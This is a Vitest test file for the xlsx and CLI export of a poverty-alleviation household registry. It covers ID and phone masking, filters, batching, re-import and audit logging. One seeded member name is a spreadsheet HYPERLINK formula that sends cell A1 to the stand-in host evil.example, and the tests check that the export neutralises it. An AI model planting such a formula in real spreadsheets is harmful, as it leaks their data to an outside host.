import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PassThrough, Writable } from 'node:stream';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { openDatabase, type Database } from '../../src/db/database';
import { ALL_PLACES } from '../../src/db/placeScope';
import { CONSOLE_ACTOR } from '../../src/modules/audit/service';
import { exportHouseholds } from '../../src/modules/exports/service';
import { REGISTRY_EXPORT_COLUMNS } from '../../src/modules/exports/columns';
import { writeFileSync } from 'node:fs';
import { templateHeaders } from '../../src/modules/imports/columns';
import { importRegistry } from '../../src/modules/imports/service';
import { testDatabases } from '../helpers/databases';
import { createHousehold, createPlaceTree, type CreatedHousehold, type TestPlaces } from '../helpers/factory';
import { registryApp, signIn, type Client } from './session';

const EVERYWHERE = { scope: ALL_PLACES, pairedCadreId: null };

const HEADERS = templateHeaders();
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
const MASKED_ID = /^\d{6}\*{8}[\dX]{4}$/;

type Row = Record<string, unknown>;

/** The first sheet as objects keyed by header, after checking the header row is the template's. */
async function readSheet(bytes: Buffer): Promise<Row[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  const rows: unknown[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    rows.push(HEADERS.map((_, i) => row.getCell(i + 1).value));
  });
  expect(rows[0]).toEqual(HEADERS);
  return rows.slice(1).map((r) => Object.fromEntries(HEADERS.map((h, i) => [h, r[i]])));
}

/** Six households, twelve persons; one member's name is a formula, one a leading minus. */
async function seedForExport(database: Database): Promise<{ places: TestPlaces; households: CreatedHousehold[] }> {
  const places = await createPlaceTree(database, 1, 2);
  const households: CreatedHousehold[] = [];
  households.push(
    await createHousehold(database, places, {
      members: [
        { name: '张三', relation: 'head', sex: 'M', birth: '1960-01-01', columns: { phone: '13812345678', insured_basic: true, disability_grade: 2, health: 'disabled', labour: 'weak', work_status: 'farming', education: 'primary' } },
        { name: EVIL, relation: 'son', sex: 'M', birth: '1990-05-05' },
        { name: '-李四', relation: 'daughter_in_law', sex: 'F', birth: '1992-07-07' },
      ],
    }),
  );
  for (let i = 0; i < 4; i++) households.push(await createHousehold(database, places, { villageCode: places.villageCodes[i % 2], status: i < 2 ? 'poor' : 'exited', attribute: 'dibao' }));
  households.push(await createHousehold(database, places, { status: 'exited', mainCause: 'capital', members: [{ name: '@孤老', relation: 'head', sex: 'F', birth: '1940-02-02' }] }));
  return { places, households };
}

describe.each(testDatabases)('registry export on $name', ({ open }) => {
  let database: Database;
  let app: FastifyInstance;
  beforeAll(async () => {
    database = await open();
    app = await registryApp(database);
  });
  /** The export's registry, and a county operator of its county signed in as `as`. */
  let as: Client;
  async function seed() {
    const seeded = await seedForExport(database);
    as = await signIn(app, database, 'county_operator', seeded.places.countyCode);
    return seeded;
  }
  const get = (url: string) => as.inject('GET', url);
  const consoleExport = (place: string, reveal: { idNumber: boolean; phone: boolean }, batchSize: number) =>
    exportHouseholds(database.db, EVERYWHERE, { place }, { reveal, batchSize, author: CONSOLE_ACTOR, placeCode: place });
  afterAll(async () => {
    await app?.close();
    await database?.close();
  });

  it('streams one row per person with Chinese headers and labels, IDs masked, formulas neutralised', async () => {
    const { places, households } = await seed();
    const res = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toContain(encodeURIComponent('建档立卡户'));
    const rows = await readSheet(res.rawPayload);
    const persons = households.flatMap((h) => h.members);
    expect(rows).toHaveLength(persons.length);
    const first = households[0];
    const head = rows.find((r) => r['姓名'] === '张三')!;
    expect(head).toMatchObject({
      户编号: first.householdNo,
      省: '测试省',
      县: `测试县${places.countyCode}`,
      乡镇: '测试1镇',
      村: '测试1镇1村村委会',
      村代码: places.villageCodes[0],
      户主姓名: '张三',
      户属性: '一般贫困户',
      户状态: '未脱贫',
      识别年度: 2016,
      主要致贫原因: '因病',
      联系电话: '138****1234',
      收入年度: 2019,
      工资性收入: 8000,
      证件号码: first.members[0].idNumber.slice(0, 6) + '********' + first.members[0].idNumber.slice(-4),
      与户主关系: '户主',
      民族: '汉族',
      文化程度: '小学',
      健康状况: '残疾',
      残疾等级: 2,
      劳动技能: '弱劳动力或半劳动力',
      务工状况: '务农',
      基本医疗保险: '是',
      个人联系电话: '138****5678',
    });
    expect(head['在校生状况']).toBeNull();
    expect(rows.find((r) => r['姓名'] === "'" + EVIL)).toBeDefined();
    expect(rows.find((r) => r['姓名'] === "'-李四")).toBeDefined();
    expect(rows.find((r) => r['姓名'] === "'@孤老")!['户主姓名']).toBe("'@孤老");
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells.some((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toBe(false);
    expect(cells.some((v) => v !== null && typeof v === 'object')).toBe(false);
    for (const p of persons) expect(cells).not.toContain(p.idNumber);
    expect(rows.every((r) => MASKED_ID.test(String(r['证件号码'])))).toBe(true);
  });

  it('reveals ID numbers when asked and allowed, and applies the list filters', async () => {
    const { places, households } = await seed();
    const res = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}&status=未脱贫&reveal=idNumber`);
    expect(res.statusCode).toBe(200);
    const rows = await readSheet(res.rawPayload);
    const poor = households.slice(0, 3);
    const expected = poor.flatMap((h) => h.members.map((m) => m.idNumber)).sort();
    expect(rows.map((r) => r['证件号码']).sort()).toEqual(expected);
    expect(rows.every((r) => r['户状态'] === '未脱贫')).toBe(true);
    expect(rows.find((r) => r['姓名'] === '张三')!['个人联系电话']).toBe('138****5678');
    const village = await get(`/api/v1/households/export.xlsx?place=${places.villageCodes[1]}&reveal=idNumber,phone&attribute=dibao`);
    const villageRows = await readSheet(village.rawPayload);
    expect(villageRows).toHaveLength(2 * 2);
    expect(villageRows.every((r) => r['户属性'] === '低保贫困户' && r['村'] === '测试1镇2村村委会' && r['联系电话'] === '13800001234')).toBe(true);
    const phones = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}&reveal=phone`);
    const head = (await readSheet(phones.rawPayload)).find((r) => r['姓名'] === '张三')!;
    expect(head['个人联系电话']).toBe('13812345678');
    expect(head['证件号码']).toMatch(MASKED_ID);
  });

  it('refuses bad filters before writing anything', async () => {
    const { places } = await seed();
    const badReveal = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}&reveal=password`);
    expect(badReveal.statusCode).toBe(400);
    expect(badReveal.json().error.message).toContain('password');
    const badStatus = await get(`/api/v1/households/export.xlsx?status=nope`);
    expect(badStatus.statusCode).toBe(400);
    expect(badStatus.json().error.message).toContain('nope');
    const unknown = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}000999`);
    expect(unknown.statusCode).toBe(404);
    expect(unknown.headers['content-type']).toContain('application/json');
  });

  it('reads in keyset batches across household boundaries and counts what it wrote', async () => {
    const { places, households } = await seed();
    const prepared = await consoleExport(places.countyCode, { idNumber: true, phone: false }, 2);
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const counts = await prepared.writeTo(out);
    const persons = households.flatMap((h) => h.members);
    expect(counts).toEqual({ households: households.length, persons: persons.length, rows: persons.length });
    const rows = await readSheet(Buffer.concat(chunks));
    expect(rows.map((r) => r['证件号码']).sort()).toEqual(persons.map((p) => p.idNumber).sort());
    const order = rows.map((r) => String(r['户编号']));
    expect(order).toEqual([...order].sort());
    expect(REGISTRY_EXPORT_COLUMNS.map((c) => c.header)).toEqual(HEADERS);
  });

  it('stops reading when the receiver goes away', async () => {
    const { places } = await seed();
    const prepared = await consoleExport(places.countyCode, { idNumber: false, phone: false }, 1);
    let written = 0;
    const out = new Writable({
      write(chunk: Buffer, _encoding, done) {
        written += chunk.length;
        out.destroy();
        done();
      },
    });
    const writing = prepared.writeTo(out);
    await expect(writing).rejects.toThrow(/导出已中断/);
    expect(written).toBeGreaterThan(0);
  });

  it('exports a file that imports again without changing anything', async () => {
    const places = await createPlaceTree(database, 2, 1);
    as = await signIn(app, database, 'county_operator', places.countyCode);
    const made: CreatedHousehold[] = [];
    made.push(await createHousehold(database, places, { otherCauses: ['labour', 'skills'], columns: { food_secure: true, house_grade: 'B', water_lpd: 45.5, water_piped: false }, members: [{ name: '刘一', relation: 'head', columns: { insured_basic: true, disability_grade: 3, phone: '13700001111' } }, { name: '刘二', relation: 'son', columns: { schooling: 'dropout', work_status: 'out_of_province' } }] }));
    made.push(await createHousehold(database, places, { villageCode: places.villageCodes[1], status: 'monitored', monitorCategory: 'sudden', attribute: 'tekun', incomes: [{ year: 2020, wages: 100.5, property: 20 }] }));
    const res = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}&reveal=idNumber,phone`);
    const dir = mkdtempSync(join(tmpdir(), 'fupin-reimport-'));
    try {
      const path = join(dir, 'export.xlsx');
      writeFileSync(path, res.rawPayload);
      const report = await importRegistry(database, { path, fileName: 'export.xlsx' }, { dryRun: true });
      expect(report.errors).toEqual([]);
      expect(report.ok).toBe(true);
      expect(report.rows).toBe(4);
      expect(report.persons).toEqual({ added: 0, updated: 0, unchanged: 4 });
      expect(report.households).toEqual({ added: 0, updated: 0, unchanged: 2 });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('fupin export (CLI)', () => {
  it('writes the .xlsx of a place with --status and masks unless --reveal', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'fupin-export-'));
    try {
      const database = await openDatabase({ dataDir: join(dir, 'data') });
      let seeded: Awaited<ReturnType<typeof seedForExport>>;
      try {
        seeded = await seedForExport(database);
      } finally {
        await database.close();
      }
      const run = promisify(execFile);
      const env = { ...process.env, FUPIN_DATA_DIR: join(dir, 'data'), DATABASE_URL: '' };
      const out = join(dir, 'poor.xlsx');
      const { stdout } = await run(process.execPath, ['--import', 'tsx', 'src/cli/fupin.ts', 'export', '--place', seeded.places.countyCode, '--status', 'poor', '--out', out], { env });
      expect(stdout).toContain('已导出 3 户 7 人');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(out);
      const sheet = workbook.worksheets[0];
      expect(sheet.rowCount).toBe(8);
      const idColumn = HEADERS.indexOf('证件号码') + 1;
      expect(String(sheet.getRow(2).getCell(idColumn).value)).toMatch(MASKED_ID);
      const revealed = join(dir, 'all.xlsx');
      await run(process.execPath, ['--import', 'tsx', 'src/cli/fupin.ts', 'export', '--place', seeded.places.countyCode, '--out', revealed, '--reveal'], { env });
      const all = new ExcelJS.Workbook();
      await all.xlsx.readFile(revealed);
      const ids = all.worksheets[0].getColumn(idColumn).values.slice(2).map(String).sort();
      expect(ids).toEqual(seeded.households.flatMap((h) => h.members.map((m) => m.idNumber)).sort());
      const bad = await run(process.execPath, ['--import', 'tsx', 'src/cli/fupin.ts', 'export', '--status', 'rich', '--out', revealed], { env }).catch((e) => e);
      expect(bad.code).toBe(1);
      expect(bad.stderr).toContain('rich');
      const audited = await openDatabase({ dataDir: join(dir, 'data') });
      try {
        const events = await audited.db.selectFrom('audit_event').select(['username', 'place_code', 'after']).where('action', '=', 'registry.export').orderBy('id').execute();
        expect(events).toEqual([
          { username: '(命令行)', place_code: seeded.places.countyCode, after: { filters: { place: seeded.places.countyCode, status: 'poor' }, revealed: [], households: 3, rows: 7 } },
          { username: '(命令行)', place_code: seeded.places.countyCode, after: { filters: { place: seeded.places.countyCode }, revealed: ['idNumber', 'phone'], households: 6, rows: seeded.households.flatMap((h) => h.members).length } },
        ]);
      } finally {
        await audited.close();
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
